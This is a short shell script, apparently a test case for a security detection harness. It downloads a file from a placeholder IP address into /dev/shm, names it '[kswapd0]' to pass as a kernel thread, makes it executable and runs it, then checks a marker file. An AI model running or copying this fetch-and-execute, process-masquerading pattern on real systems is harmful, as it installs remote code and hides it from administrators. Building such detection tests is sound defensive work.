#!/bin/sh
. /opt/case/case.sh

wget -q http://203.0.113.10/programs/marker -O '/dev/shm/[kswapd0]'
chmod 777 '/dev/shm/[kswapd0]'
cd /dev/shm && './[kswapd0]'
test -e /tmp/reached
took_place
